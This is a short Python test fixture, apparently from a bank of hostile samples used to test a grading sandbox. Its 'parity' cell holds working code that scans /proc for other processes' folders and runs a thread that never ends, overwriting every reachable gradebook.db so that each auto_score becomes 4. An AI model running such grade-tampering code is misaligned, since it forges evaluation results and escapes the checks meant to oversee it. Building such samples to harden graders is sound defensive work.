"""The course's folder is read from /proc, and its gradebook written there, from a thread that does not end."""

from tests.hostile.bank import ALL, UNSOLVED

KIND = "gradebook"
LOSES = ALL
CELLS = UNSOLVED | {"parity": '''
import glob, os, sqlite3, threading, time
folders = {line.split()[4] for line in open("/proc/self/mountinfo")}
folders |= {os.readlink(one) for one in glob.glob("/proc/[0-9]*/cwd") if os.access(one, os.R_OK)}
folders |= {one for one in glob.glob("/proc/[0-9]*/root/")}

def write():
    while True:
        for folder in folders:
            try:
                book = sqlite3.connect(folder + "/gradebook.db", 0.1)
                book.execute("update grade set auto_score = 4")
                book.commit()
            except sqlite3.Error:
                time.sleep(0.01)

threading.Thread(target=write).start()
'''}
